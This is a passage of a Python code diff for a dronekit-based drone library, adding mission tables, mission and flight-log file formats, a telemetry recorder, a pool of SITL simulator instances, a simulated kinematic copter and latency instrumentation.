+    ("param1", "f4"),
+    ("param2", "f4"),
+    ("param3", "f4"),
+    ("param4", "f4"),
+    ("x", "f8"),
+    ("y", "f8"),
+    ("z", "f4")
+]
+
+class Mission:
+    """
+    Mission items stored as a numpy table (`MISSION_DTYPE`)
+    Rows are added one by one or in bulk, and compared to find which items changed
+    """
+    def __init__(self, items=None):
+        """
+        Create a mission
+        :param items: Initial items as a `MISSION_DTYPE` array
+        """
+        self._items = np.zeros(16, dtype=MISSION_DTYPE)
+        self._count = 0
+        if items is not None: self.extend(items)
+
+    @property
+    def items(self):
+        """
+        Return mission items as a `MISSION_DTYPE` array (view, not a copy)
+        """
+        return self._items[:self._count]
+
+    def __len__(self):
+        return self._count
+
+    def __getitem__(self, item):
+        return self.items[item]
+
+    def _reserve(self, count):
+        """
+        Grow storage to hold `count` more items
+        """
+        if self._count + count > len(self._items):
+            items = np.zeros(max(2 * len(self._items), self._count + count), dtype=MISSION_DTYPE)
+            items[:self._count] = self.items
+            self._items = items
+
+    def extend(self, items):
+        """
+        Append items
+        :param items: Items as a `MISSION_DTYPE` array
+        """
+        items = np.asarray(items, dtype=MISSION_DTYPE)
+        self._reserve(len(items))
+        self._items[self._count:self._count + len(items)] = items
+        self._count += len(items)
+
+    def add(self, command, x=0, y=0, z=0, frame=None, params=(0, 0, 0, 0)):
+        """
+        Append one item
+        :param command: MAV_CMD value
+        :param x: Latitude
+        :param y: Longitude
+        :param z: Altitude
+        :param frame: MAV_FRAME value (relative altitude if not specified)
+        :param params: param1 to param4
+        """
+        if frame is None: frame = mavutil.mavlink.MAV_FRAME_GLOBAL_RELATIVE_ALT
+        self._reserve(1)
+        self._items[self._count] = (command, frame, *params, x, y, z)
+        self._count += 1
+
+    def add_waypoints(self, points, alt):
+        """
+        Append many waypoints at once
+        :param points: Points as a list<[lat, lon, ?alt]> or Nx2/Nx3 array
+        :param alt: Altitude of points given without one
+        """
+        points = np.asarray(points, dtype=float).reshape(-1, np.shape(points)[-1] if len(points) else 2)
+        items = np.zeros(len(points), dtype=MISSION_DTYPE)
+        items["command"] = mavutil.mavlink.MAV_CMD_NAV_WAYPOINT
+        items["frame"] = mavutil.mavlink.MAV_FRAME_GLOBAL_RELATIVE_ALT
+        items["x"], items["y"] = points[:, 0], points[:, 1]
+        items["z"] = points[:, 2] if points.shape[1] > 2 else alt
+        self.extend(items)
+
+    def clear(self):
+        """
+        Remove every item
+        """
+        self._count = 0
+
+    def copy(self):
+        """
+        Return an independent copy of the mission
+        """
+        return Mission(self.items)
+
+    def changed(self, other):
+        """
+        Return indexes of items differing from another mission of the same length
+        :param other: Mission to compare with
+        :return: Sorted numpy array of indexes
+        """
+        return np.flatnonzero(self.items != other.items)
+
+    def commands(self):
+        """
+        Iterate over items as dronekit commands
+        """
+        for item in self.items.tolist():
+            command, frame, p1, p2, p3, p4, x, y, z = item
+            yield dk.Command(0, 0, 0, frame, command, 0, 0, p1, p2, p3, p4, x, y, z)
+
+def _changed_ranges(indexes, gap=2):
+    """
+    Group sorted indexes into inclusive [start, end] ranges
+    Ranges separated by at most `gap` unchanged items are merged, resending them is cheaper than a new transfer
+    :param indexes: Sorted indexes
+    :param gap: Unchanged items allowed inside a range
+    :return: list<[start, end]>
+    """
+    ranges = []
+    for index in map(int, indexes):
+        if ranges and index - ranges[-1][1] <= gap + 1:
+            ranges[-1][1] = index
+        else:
+            ranges.append([index, index])
+    return ranges
+
+class LegTable:
+    """
+    Mission legs lengths and distances left after each item, computed once per upload
+    Leg i leads to mission item i (sequence i + 1), leg 0 starts from home
+    """
+    def __init__(self, items, home):
+        """
+        :param items: Mission items as a `MISSION_DTYPE` array
+        :param home: Start location [lat, lon]
+        """
+        positions = np.column_stack((items["x"], items["y"])).astype(float)
+        # Items without location (takeoff...) are flown at the previous position
+        located = (positions != 0).any(axis=1)
+        previous_located = np.maximum.accumulate(np.where(located, np.arange(len(items)), -1))
+        positions = np.vstack(([home[:2]], positions))[previous_located + 1]
+        start = np.vstack(([home[:2]], positions[:-1]))
+        self.lengths = _geo_distance(start[:, 0], start[:, 1], positions[:, 0], positions[:, 1]).reshape(-1)
+        self.total = float(self.lengths.sum())
+        # Python lists: single item lookups are faster than on numpy arrays
+        self.positions = positions.tolist()
+        self.after = (self.total - np.cumsum(self.lengths)).tolist()
+        # Items own targets, as given to the autopilot
+        self._targets = np.column_stack((items["x"], items["y"], items["z"])).tolist()
+        self._waypoints = {}
+
+    def __len__(self):
+        return len(self.positions)
+
+    def waypoint(self, index):
+        """
+        Return the target of a mission item, built on first use then reused
+        :param index: Mission item index
+        :return: dronekit.LocationGlobalRelative
+        """
+        waypoint = self._waypoints.get(index)
+        if waypoint is None:
+            waypoint = self._waypoints[index] = dk.LocationGlobalRelative(*self._targets[index])
+        return waypoint
+
+    def remaining(self, index, distance):
+        """
+        Return the distance in metres left to fly
+        :param index: Item flown to
+        :param distance: Live distance to this item
+        """
+        if index >= len(self.after):
+            return 0.
+        return distance + self.after[max(index, 0)]
+
+# Mission files
+# Binary files: magic, header length (uint32), JSON header, then raw records
+MISSION_FILE_MAGIC = b"DKMISS01"
+QGC_WPL_HEADER = "QGC WPL 110"
+
+def _write_binary_header(f, magic, header):
+    """
+    Write a binary file header
+    :param f: File opened in binary mode
+    :param magic: File type signature (8 bytes)
+    :param header: JSON serializable header
+    """
+    header = json.dumps(header).encode()
+    f.write(magic + struct.pack("<I", len(header)) + header)
+
+def _read_binary_header(f, magic, path):
+    """
+    Read a binary file header
+    :param f: File opened in binary mode, at its start
+    :param magic: Expected file type signature
+    :param path: File path (error messages)
+    :return: (header, offset of the first record)
+    """
+    if f.read(len(magic)) != magic:
+        raise ValueError(f"'{path}' n'est pas un fichier {magic.decode()}")
+    length, = struct.unpack("<I", f.read(4))
+    return json.loads(f.read(length)), len(magic) + 4 + length
+
+def read_mission_file(path, chunk=4096):
+    """
+    Read mission items from a QGC WPL 110 text file or a binary mission file, `chunk` items at a time
+    Home line (index 0) of QGC files is skipped
+    :param path: Mission file path
+    :param chunk: Items per yielded array
+    :return: Iterator of `MISSION_DTYPE` arrays
+    """
+    with open(path, "rb") as f:
+        magic = f.read(len(MISSION_FILE_MAGIC))
+    if magic == MISSION_FILE_MAGIC:
+        with open(path, "rb") as f:
+            header, _ = _read_binary_header(f, MISSION_FILE_MAGIC, path)
+            dtype = np.dtype([tuple(field) for field in header["dtype"]])
+            while True:
+                items = np.fromfile(f, dtype=dtype, count=chunk)
+                if not len(items):
+                    return
+                yield items.astype(MISSION_DTYPE, copy=False)
+    with open(path, "r") as f:
+        if f.readline().split() != QGC_WPL_HEADER.split():
+            raise ValueError(f"'{path}' n'est pas un fichier de mission ({QGC_WPL_HEADER})")
+        rows = []
+        for line in f:
+            # index, current, frame, command, param1-4, lat, lon, alt, autocontinue
+            fields = line.split()
+            if len(fields) < 12 or fields[0] == "0":
+                continue
+            rows.append((int(fields[3]), int(fields[2]), *map(float, fields[4:11])))
+            if len(rows) == chunk:
+                yield np.array(rows, dtype=MISSION_DTYPE)
+                rows = []
+        if rows:
+            yield np.array(rows, dtype=MISSION_DTYPE)
+
+def write_mission_file(path, items, home, fmt=None):
+    """
+    Write mission items to a QGC WPL 110 text file or a binary mission file
+    :param path: Mission file path
+    :param items: `MISSION_DTYPE` array, or iterable of arrays (ex: `read_mission_file` output)
+    :param home: Home location [lat, lon, ?alt] (line 0 of QGC files)
+    :param fmt: "qgc" or "binary" (from extension if not specified: .bin/.mission for binary)
+    :return: Number of items written
+    """
+    if fmt is None: fmt = "binary" if os.path.splitext(path)[1].lower() in (".bin", ".mission") else "qgc"
+    chunks = [items] if hasattr(items, "dtype") else items
+    count = 0
+    if fmt == "binary":
+        with open(path, "wb") as f:
+            _write_binary_header(f, MISSION_FILE_MAGIC, {"dtype": MISSION_DTYPE, "home": list(home)})
+            for chunk in chunks:
+                np.asarray(chunk, dtype=MISSION_DTYPE).tofile(f)
+                count += len(chunk)
+        return count
+    if fmt != "qgc":
+        raise ValueError(f"Format de mission inconnu '{fmt}'")
+    with open(path, "w") as f:
+        home_alt = home[2] if len(home) > 2 else 0
+        f.write(f"{QGC_WPL_HEADER}\n0\t1\t0\t{mavutil.mavlink.MAV_CMD_NAV_WAYPOINT}\t0\t0\t0\t0\t{home[0]:.8f}\t{home[1]:.8f}\t{home_alt:.6f}\t1\n")
+        for chunk in chunks:
+            f.writelines(
+                f"{count + i + 1}\t0\t{frame}\t{command}\t{p1:.8g}\t{p2:.8g}\t{p3:.8g}\t{p4:.8g}\t{x:.8f}\t{y:.8f}\t{z:.6f}\t1\n"
+                for i, (command, frame, p1, p2, p3, p4, x, y, z) in enumerate(np.asarray(chunk, dtype=MISSION_DTYPE).tolist())
+            )
+            count += len(chunk)
+    return count
+
+# Telemetry recorder
+# One row per telemetry sample, usable as a numpy dtype without importing numpy
+TELEMETRY_DTYPE = [
+    ("time", "f8"),
+    ("lat", "f8"),
+    ("lon", "f8"),
+    ("alt", "f4"),
+    ("mode", "S12"),
+    ("waypoint", "i4"),
+    ("battery_voltage", "f4"),
+    ("battery_level", "i2")
+]
+# Flight log file: binary file with a {dtype, rate} header, then raw samples
+FLIGHT_LOG_MAGIC = b"DKFLOG01"
+
+class TelemetryRecorder:
+    """
+    Sample drone telemetry at a fixed rate into a ring buffer, streamed to a binary flight log
+    Memory use only depends on the ring buffer capacity, the log is reopened with `load_flight_log`
+    """
+    def __init__(self, drone, path, rate=50, capacity=1024, flush_every=None):
+        """
+        :param drone: Drone to record
+        :param path: Flight log path (overwritten)
+        :param rate: Samples per second
+        :param capacity: Samples kept in memory (`recent`)
+        :param flush_every: Samples between two writes to the log (1 second of samples if not specified)
+        """
+        self.drone = drone
+        self.path = path
+        self.rate = rate
+        self._buffer = np.zeros(capacity, dtype=TELEMETRY_DTYPE)
+        self._flush_every = min(flush_every or max(int(rate), 1), capacity)
+        # Samples taken / written to the log
+        self.count = 0
+        self._written = 0
+        self.missed = 0
+        self._thread = None
+        self._running = False
+        self._lock = threading.Lock()
+        self._file = open(path, "wb")
+        _write_binary_header(self._file, FLIGHT_LOG_MAGIC, {"dtype": TELEMETRY_DTYPE, "rate": rate})
+
+    def __enter__(self):
+        self.start()
+        return self
+
+    def __exit__(self, *_):
+        self.stop()
+
+    def sample(self):
+        """
+        Record one sample now
+        """
+        vehicle = self.drone.vehicle
+        position = vehicle.location.global_frame
+        battery = vehicle.battery
+        with self._lock:
+            self._buffer[self.count % len(self._buffer)] = (
+                time.time(),
+                position.lat or 0,
+                position.lon or 0,
+                vehicle.location.global_relative_frame.alt or 0,
+                vehicle.mode.name.encode(),
+                vehicle.commands.next,
+                (battery.voltage or 0) if battery else 0,
+                (-1 if battery.level is None else battery.level) if battery else -1
+            )
+            self.count += 1
+            if self.count - self._written >= self._flush_every:
+                self._flush()
+
+    def _flush(self):
+        """
+        Append samples not written yet to the log (lock held)
+        """
+        start, end = self._written % len(self._buffer), self.count % len(self._buffer)
+        if self.count - self._written >= len(self._buffer):
+            # Writer fell a whole buffer behind, oldest samples are lost
+            start = end
+            self.missed += self.count - self._written - len(self._buffer)
+        if start < end:
+            self._file.write(self._buffer[start:end].tobytes())
+        elif self.count > self._written:
+            self._file.write(self._buffer[start:].tobytes())
+            self._file.write(self._buffer[:end].tobytes())
+        self._file.flush()
+        self._written = self.count
+
+    def _run(self):
+        """
+        Sampling thread
+        """
+        period = 1 / self.rate
+        next_time = time.monotonic()
+        while self._running:
+            self.sample()
+            next_time += period
+            delay = next_time - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
+            elif delay < -period:
+                # Too late, skip missed samples instead of bursting
+                skipped = int(-delay / period)
+                self.missed += skipped
+                next_time += skipped * period
+
+    def start(self):
+        """
+        Start sampling in a background thread
+        """
+        self._running = True
+        self._thread = threading.Thread(target=self._run, name="TelemetryRecorder", daemon=True)
+        self._thread.start()
+
+    def stop(self):
+        """
+        Stop sampling, write remaining samples and close the log
+        """
+        self._running = False
+        if self._thread is not None:
+            self._thread.join()
+            self._thread = None
+        with self._lock:
+            if not self._file.closed:
+                self._flush()
+                self._file.close()
+
+    def recent(self, count=None):
+        """
+        Return the last samples kept in memory, oldest first
+        :param count: Number of samples (all kept ones if not specified)
+        :return: `TELEMETRY_DTYPE` array
+        """
+        with self._lock:
+            kept = min(self.count, len(self._buffer))
+            count = kept if count is None else min(count, kept)
+            indexes = np.arange(self.count - count, self.count) % len(self._buffer)
+            return self._buffer[indexes]
+
+def load_flight_log(path):
+    """
+    Open a flight log written by `TelemetryRecorder` without reading it
+    :param path: Flight log path
+    :return: Memory-mapped `TELEMETRY_DTYPE` array (log["alt"], log["time"], ...)
+    """
+    with open(path, "rb") as f:
+        header, offset = _read_binary_header(f, FLIGHT_LOG_MAGIC, path)
+    dtype = np.dtype([tuple(field) for field in header["dtype"]])
+    count = (os.path.getsize(path) - offset) // dtype.itemsize
+    if count == 0:
+        return np.zeros(0, dtype=dtype)
+    return np.memmap(path, dtype=dtype, mode="r", offset=offset, shape=(count,))
+
+# Simulator
+_sitl_download_lock = threading.Lock()
+
+def start_sitl(lat, lng, instance=0):
+    """
+    Start a copter simulator (SITL) instance, same as `dronekit_sitl.start_default` with a chosen instance
+    Instance N listens on port 5760 + 10 * N
+    :param lat: Home latitude
+    :param lng: Home longitude
+    :param instance: Instance number
+    :return: dronekit_sitl.SITL
+    """
+    args = {"instance": instance}
+    binary = os.getenv("SITL_BINARY")
+    if binary is not None:
+        args["path"] = binary
+        defaults = os.getenv("SITL_DEFAULTS_FILEPATH")
+        if defaults is not None:
+            args["defaults_filepath"] = defaults
+    sitl = dk_s.SITL(**args)
+    if binary is None:
+        # Download once, concurrent instances share the binary
+        with _sitl_download_lock:
+            sitl.download("copter", "3.3", verbose=True)
+    sitl.launch(["--model", "quad", f"--home={lat},{lng},584,353"], await_ready=True, restart=True)
+    return sitl
+
+class SITLPool:
+    """
+    Simulator (SITL) instances kept running and connected between drones
+    Released instances are reset in the background (returned home, disarmed, mission cleared)
+    and handed out again to drones starting from the same home, without restarting nor reconnecting
+    """
+    def __init__(self, ip="127.0.0.1", base_port=5760, max_size=None, reset_timeout=120):
+        """
+        :param ip: Simulators IP
+        :param base_port: First instance port, next ones are spaced by 10
+        :param max_size: Maximum running instances, `acquire` waits for a free one when reached (no limit if not specified)
+        :param reset_timeout: Maximum time in seconds for a released drone to land, instance is stopped past it
+        """
+        self.ip = ip
+        self.base_port = base_port
+        self.max_size = max_size
+        self.reset_timeout = reset_timeout
+        self._condition = threading.Condition()
+        # Ready instances as list<[port, home, sitl, vehicle]>
+        self._idle = []
+        # Home of every running instance (idle, in use or resetting) by port
+        self._homes = {}
+        self._closed = False
+
+    def __len__(self):
+        return len(self._homes)
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self.close()
+
+    @property
+    def idle(self):
+        """
+        Return the number of instances ready to be used
+        """
+        return len(self._idle)
+
+    def _launch(self, port, lat, lng):
+        """
+        Start an instance and connect to it
+        :return: (sitl, vehicle)
+        """
+        sitl = start_sitl(lat, lng, (port - 5760) // 10)
+        try:
+            return sitl, dk.connect(f"tcp:{self.ip}:{port}", wait_ready=True)
+        except Exception:
+            sitl.stop()
+            raise
+
+    def _take(self, lat, lng, wait=True):
+        """
+        Reserve an instance, waiting for one when the pool is full
+        :param wait: Return (None, None) instead of waiting when the pool is full
+        :return: (port, idle entry or None if the instance must be started)
+        """
+        with self._condition:
+            while True:
+                if self._closed:
+                    raise RuntimeError("SITLPool fermé")
+                same_home = [entry for entry in self._idle if _geo_distance(lat, lng, *entry[1]) < 1]
+                if same_home:
+                    entry = same_home[0]
+                elif self.max_size is None or len(self._homes) < self.max_size:
+                    entry = None
+                elif self._idle:
+                    # Pool is full, an instance with another home is restarted
+                    entry = self._idle[0]
+                elif wait:
+                    self._condition.wait()
+                    continue
+                else:
+                    return None, None
+                if entry is None:
+                    port = next(port for port in range(self.base_port, self.base_port + 10 * (len(self._homes) + 1), 10) if port not in self._homes)
+                else:
+                    self._idle.remove(entry)
+                    port = entry[0]
+                self._homes[port] = [lat, lng]
+                return port, entry
+
+    def acquire(self, lat, lng, wait=True):
+        """
+        Return a connected vehicle at a home location, from a warm instance if possible
+        :param lat: Home latitude
+        :param lng: Home longitude
+        :param wait: Wait for an instance when the pool is full (else return None)
+        :return: (port, sitl, vehicle), to give back to `release` once done
+        """
+        port, entry = self._take(lat, lng, wait)
+        if port is None:
+            return None
+        try:
+            if entry is None:
+                sitl, vehicle = self._launch(port, lat, lng)
+            elif _geo_distance(lat, lng, *entry[1]) < 1:
+                sitl, vehicle = entry[2], entry[3]
+            else:
+                entry[3].close()
+                entry[2].stop()
+                sitl, vehicle = self._launch(port, lat, lng)
+        except Exception:
+            with self._condition:
+                del self._homes[port]
+                self._condition.notify_all()
+            raise
+        return port, sitl, vehicle
+
+    def warm(self, homes):
+        """
+        Start instances ahead of use, in parallel, as long as the pool is not full
+        :param homes: Home locations as a list<[lat, lng]>
+        """
+        entries = []
+        threads = [threading.Thread(target=lambda home: entries.append(self.acquire(*home, wait=False)), args=(home,), daemon=True) for home in homes]
+        for thread in threads: thread.start()
+        for thread in threads: thread.join()
+        for entry in entries:
+            if entry is not None: self.release(*entry, wait=True)
+
+    def _reset(self, port, sitl, vehicle):
+        """
+        Bring a released instance back to its idle state at home, stop it if that fails
+        """
+        home = self._homes[port]
+        try:
+            if vehicle.armed:
+                vehicle.mode = dk.VehicleMode("RTL")
+                deadline = time.monotonic() + self.reset_timeout
+                while vehicle.armed and time.monotonic() < deadline:
+                    time.sleep(.2)
+            vehicle.mode = dk.VehicleMode("GUIDED")
+            vehicle.commands.clear()
+            vehicle.commands.upload()
+            location = vehicle.location.global_relative_frame
+            ready = not vehicle.armed and _geo_distance(location.lat, location.lon, *home) < 5
+        except Exception:
+            ready = False
+        with self._condition:
+            if ready and not self._closed:
+                self._idle.append([port, home, sitl, vehicle])
+            else:
+                del self._homes[port]
+            self._condition.notify_all()
+        if not ready or self._closed:
+            vehicle.close()
+            sitl.stop()
+
+    def release(self, port, sitl, vehicle, wait=False):
+        """
+        Give back an instance returned by `acquire`
+        :param wait: Wait for the reset to finish instead of running it in the background
+        """
+        if wait:
+            self._reset(port, sitl, vehicle)
+        else:
+            threading.Thread(target=self._reset, args=(port, sitl, vehicle), daemon=True).start()
+
+    def close(self):
+        """
+        Stop idle instances, instances in use are stopped when released
+        """
+        with self._condition:
+            self._closed = True
+            idle, self._idle = self._idle, []
+            for entry in idle:
+                del self._homes[entry[0]]
+            self._condition.notify_all()
+        for _, _, sitl, vehicle in idle:
+            vehicle.close()
+            sitl.stop()
+
+# Kinematic simulator
+class _SimLocation:
+    """
+    Simulated location frame (lat, lon, alt)
+    """
+    def __init__(self, lat, lon, alt):
+        self.lat, self.lon, self.alt = lat, lon, alt
+
+    def __repr__(self):
+        return f"Location:lat={self.lat},lon={self.lon},alt={self.alt}"
+
+class _SimMode:
+    """
+    Simulated flight mode, same `name` attribute as `dronekit.VehicleMode`
+    """
+    def __init__(self, name):
+        self.name = name
+
+    def __eq__(self, other):
+        return getattr(other, "name", None) == self.name
+
+class _SimCommands:
+    """
+    Simulated `Vehicle.commands`: local command list and the one held by the autopilot
+    """
+    def __init__(self, vehicle):
+        self._vehicle = vehicle
+        self._local = []
+        self._uploaded = []
+
+    def wait_ready(self, **_):
+        return True
+
+    def download(self):
+        self._local = list(self._uploaded)
+
+    def clear(self):
+        self._local = []
+
+    def add(self, cmd):
+        self._local.append(cmd)
+
+    def upload(self, timeout=None):
+        with self._vehicle._lock:
+            self._uploaded = list(self._local)
+
+    def upload_ranges(self, ranges, timeout=None):
+        """
+        Send only the given mission indexes ranges (list<[start, end]>), same length missions
+        """
+        with self._vehicle._lock:
+            for start, end in ranges:
+                self._uploaded[start:end + 1] = self._local[start:end + 1]
+
+    @property
+    def count(self):
+        return len(self._local)
+
+    @property
+    def next(self):
+        return self._vehicle._current
+
+    @next.setter
+    def next(self, index):
+        self._vehicle._set_current(index)
+
+    def __len__(self):
+        return len(self._local)
+
+    def __getitem__(self, index):
+        return self._local[index]
+
+class SimVehicle:
+    """
+    Kinematic copter standing in for a dronekit `Vehicle`
+    Implements what `Drone` uses (armed, mode, commands, location, simple_takeoff, listeners) and flies
+    GUIDED takeoffs, AUTO missions, RTL and LAND at constant speeds. Simulated time advances by `dt`
+    steps, `speedup` times faster than real time in a background thread, or manually with `step`.
+    """
+    def __init__(self, lat, lon, speedup=100, dt=.1, speed=10, climb_rate=2.5, autostart=True):
+        """
+        :param lat: Home latitude
+        :param lon: Home longitude
+        :param speedup: Simulated seconds per real second (None to run as fast as possible)
+        :param dt: Simulation time step in seconds
+        :param speed: Horizontal speed in m/s
+        :param climb_rate: Vertical speed in m/s
+        :param autostart: Start the background simulation thread
+        """
+        self.home = [lat, lon]
+        self.home_alt = 584
+        self.speedup = speedup
+        self.dt = dt
+        self.speed = speed
+        self.climb_rate = climb_rate
+        # Simulated seconds since start
+        self.time = 0.
+        self.lat, self.lon, self.alt = lat, lon, 0.
+        self.groundspeed = 0.
+        self.battery_level = 100.
+        self.is_armable = True
+        self._armed = False
+        self._mode = _SimMode("STABILIZE")
+        self._target_alt = None
+        self._current = 0
+        # Last reached mission item
+        self._reached = 0
+        self._link_lost_at = None
+        self._link_lost_clock = None
+        self._link_restored_at = None
+        self._attribute_listeners = {}
+        self._message_listeners = {}
+        self._cache = {}
+        self._lock = threading.RLock()
+        self.commands = _SimCommands(self)
+        self._running = False
+        self._thread = None
+        if autostart: self.start()
+
+    # Dronekit interface
+    @property
+    def armed(self):
+        return self._armed
+
+    @armed.setter
+    def armed(self, value):
+        with self._lock:
+            self._armed = bool(value) and self.is_armable
+            if not self._armed: self._target_alt = None
+
+    @property
+    def mode(self):
+        return self._mode
+
+    @mode.setter
+    def mode(self, value):
+        with self._lock:
+            self._mode = _SimMode(value.name)
+
+    @property
+    def location(self):
+        location = _SimLocation(self.lat, self.lon, self.home_alt + self.alt)
+        location.global_frame = _SimLocation(self.lat, self.lon, self.home_alt + self.alt)
+        location.global_relative_frame = _SimLocation(self.lat, self.lon, self.alt)
+        return location
+
+    @property
+    def home_location(self):
+        return _SimLocation(*self.home, self.home_alt)
+
+    @property
+    def battery(self):
+        class Battery:
+            level = int(self.battery_level)
+            voltage = 10.5 + 2.1 * self.battery_level / 100
+            current = 20. if self._armed else 0.
+        return Battery
+
+    @property
+    def last_heartbeat(self):
+        # Heartbeat age in real seconds like dronekit, whatever the speedup, grows while the link is dropped
+        if self._link_lost_at is None:
+            return 0
+        return time.monotonic() - self._link_lost_clock
+
+    def simple_takeoff(self, alt):
+        with self._lock:
+            if self._armed and self._mode.name == "GUIDED":
+                self._target_alt = alt
+
+    def add_attribute_listener(self, attr_name, observer):
+        self._attribute_listeners.setdefault(attr_name, []).append(observer)
+
+    def remove_attribute_listener(self, attr_name, observer):
+        self._attribute_listeners.get(attr_name, []).remove(observer)
+
+    def add_message_listener(self, name, fn):
+        self._message_listeners.setdefault(name, []).append(fn)
+
+    def remove_message_listener(self, name, fn):
+        self._message_listeners.get(name, []).remove(fn)
+
+    def close(self):
+        self.stop()
+
+    def reconnect(self):
+        """
+        Connect again after a link loss, like a new `dk.connect`
+        :return: This vehicle
+        """
+        if self._link_lost_at is not None and self.time < self._link_restored_at:
+            raise ConnectionError("Liaison simulée coupée")
+        self._link_lost_at = None
+        return self
+
+    def drop_link(self, duration):
+        """
+        Simulate a link loss: heartbeats stop and `reconnect` fails for `duration` simulated seconds
+        The vehicle keeps flying meanwhile
+        """
+        self._link_lost_at = self.time
+        self._link_lost_clock = time.monotonic()
+        self._link_restored_at = self.time + duration
+
+    # Simulation
+    def _notify(self, attr_name, value, cache=False):
+        """
+        Call attribute listeners, like `Vehicle.notify_attribute_listeners`
+        """
+        if cache:
+            if self._cache.get(attr_name) == value:
+                return
+            self._cache[attr_name] = value
+        for fn in self._attribute_listeners.get(attr_name, []) + self._attribute_listeners.get("*", []):
+            fn(self, attr_name, value)
+
+    def _send_message(self, name, **fields):
+        """
+        Call message listeners with a message object, like `Vehicle.notify_message_listeners`
+        """
+        message = type(name, (), fields)()
+        for fn in self._message_listeners.get(name, []) + self._message_listeners.get("*", []):
+            fn(self, name, message)
+
+    def _set_current(self, index):
+        """
+        Change mission current item and send MISSION_CURRENT to listeners
+        """
+        self._current = index
+        if index <= self._reached: self._reached = index - 1
+        self._send_message("MISSION_CURRENT", seq=index)
+
+    def _move_towards(self, lat, lon, alt, dt):
+        """
+        Fly towards a point at constant speeds
+        :return: True once the point is reached
+        """
+        scale = EARTH_RADIUS * math.pi / 180
+        north = (lat - self.lat) * scale
+        east = (lon - self.lon) * scale * math.cos(math.radians(self.lat))
+        distance = math.hypot(north, east)
+        step = min(distance, self.speed * dt)
+        self.groundspeed = step / dt
+        if distance > 0:
+            self.lat += north / distance * step / scale
+            self.lon += east / distance * step / (scale * math.cos(math.radians(self.lat)))
+        self.alt += max(-self.climb_rate * dt, min(self.climb_rate * dt, alt - self.alt))
+        return distance - step < 1 and abs(alt - self.alt) < .1
+
+    def _fly(self, dt):
+        """
+        Apply the current flight mode during `dt` seconds
+        """
+        mode = self._mode.name
+        self.groundspeed = 0.
+        if mode == "GUIDED" and self._target_alt is not None:
+            self._move_towards(self.lat, self.lon, self._target_alt, dt)
+        elif mode == "AUTO":
+            items = self.commands._uploaded
+            if not items:
+                return
+            if self._current < 1: self._set_current(1)
+            item = items[self._current - 1]
+            if item.command == mavutil.mavlink.MAV_CMD_NAV_TAKEOFF:
+                reached = self._move_towards(self.lat, self.lon, item.z, dt)
+            elif item.command == mavutil.mavlink.MAV_CMD_NAV_WAYPOINT:
+                reached = self._move_towards(item.x, item.y, item.z, dt)
+            else:
+                reached = True
+            if reached and self._reached < self._current:
+                self._reached = self._current
+                self._send_message("MISSION_ITEM_REACHED", seq=self._current)
+            if reached and self._current < len(items):
+                self._set_current(self._current + 1)
+        elif mode == "RTL":
+            if self._move_towards(*self.home, self.alt, dt):
+                self._mode = _SimMode("LAND")
+        elif mode == "LAND":
+            if self._move_towards(self.lat, self.lon, 0, dt):
+                self._armed = False
+        self.alt = max(self.alt, 0.)
+
+    def step(self, dt=None):
+        """
+        Advance simulated time by one step
+        :param dt: Step duration in seconds (`dt` if not specified)
+        """
+        dt = self.dt if dt is None else dt
+        with self._lock:
+            self.time += dt
+            self.groundspeed = 0.
+            if self._armed:
+                self._fly(dt)
+                # About 20 minutes of flight
+                self.battery_level = max(self.battery_level - dt / 12, 0)
+        location = self.location
+        self._notify("location.global_frame", location.global_frame)
+        self._notify("location.global_relative_frame", location.global_relative_frame)
+        self._notify("location", location)
+        self._notify("armed", self._armed, cache=True)
+        self._notify("mode", self._mode.name, cache=True)
+
+    def run_until(self, predicate, max_time=3600):
+        """
+        Step the simulation until `predicate()` is True (without background thread)
+        :param predicate: Function without arguments
+        :param max_time: Maximum simulated time in seconds
+        :return: True if predicate is satisfied, False if max_time expired
+        """
+        end = self.time + max_time
+        while not predicate():
+            if self.time >= end:
+                return False
+            self.step()
+        return True
+
+    def _run(self):
+        """
+        Simulation thread
+        """
+        next_time = time.monotonic()
+        while self._running:
+            self.step()
+            if self.speedup:
+                next_time += self.dt / self.speedup
+                time.sleep(max(0, next_time - time.monotonic()))
+            else:
+                # Let other threads run
+                time.sleep(0)
+
+    def start(self):
+        """
+        Start the background simulation thread
+        """
+        if self._thread is None:
+            self._running = True
+            self._thread = threading.Thread(target=self._run, name="SimVehicle", daemon=True)
+            self._thread.start()
+
+    def stop(self):
+        """
+        Stop the background simulation thread
+        """
+        self._running = False
+        if self._thread is not None and self._thread is not threading.current_thread():
+            self._thread.join()
+        self._thread = None
+
+# Instrumentation
+class LatencyHistogram:
+    """
+    Latency distribution in logarithmic buckets (about 4% wide), constant memory
+    """
+    BASE = 1e-7
+    # Buckets per doubling
+    RESOLUTION = 16
+
+    def __init__(self):
+        self.buckets = {}
+        self.count = 0
+        self.total = 0.
+        self.min = math.inf
+        self.max = 0.
+
+    def record(self, seconds):
+        """
+        Add a measured duration
+        :param seconds: Duration in seconds
+        """
+        index = max(int(math.log2(max(seconds, self.BASE) / self.BASE) * self.RESOLUTION), 0)
+        self.buckets[index] = self.buckets.get(index, 0) + 1
+        self.count += 1
+        self.total += seconds
+        self.min = min(self.min, seconds)
+        self.max = max(self.max, seconds)
+
+    def percentile(self, p):
+        """
+        Return the duration below which `p` percent of measures are
+        :param p: Percentile (0 - 100)
+        :return: Duration in seconds (bucket upper bound, capped to the maximum measured)
+        """
+        if not self.count:
+            return 0.
+        rank = p / 100 * self.count
+        seen = 0
+        for index in sorted(self.buckets):
+            seen += self.buckets[index]
+            if seen >= rank:
+                return min(self.BASE * 2 ** ((index + 1) / self.RESOLUTION), self.max)
+        return self.max
+
+    def summary(self):
+        """
+        Return distribution summary
+        :return: {count, mean, min, p50, p95, p99, max} durations in seconds
+        """
+        return {
+            "count": self.count,
+            "mean": self.total / self.count if self.count else 0.,
+            "min": self.min if self.count else 0.,
+            "p50": self.percentile(50),
+            "p95": self.percentile(95),
+            "p99": self.percentile(99),
+            "max": self.max
+        }
+
+class Instrumentation:
+    """
+    Latency histograms per operation, filled by instrumented drones (`Drone.instrument`)
+    """
+    def __init__(self):
+        self.histograms = {}
+        self._lock = threading.Lock()
+        self._dump_thread = None
+        self._dumping = threading.Event()
+
+    def record(self, name, seconds):
+        """
+        Add a measured duration to an operation
+        :param name: Operation name
+        :param seconds: Duration in seconds
+        """
+        with self._lock:
+            histogram = self.histograms.get(name)
+            if histogram is None:
+                histogram = self.histograms[name] = LatencyHistogram()
+            histogram.record(seconds)
+
+    def stats(self):
+        """
+        Return every operation summary
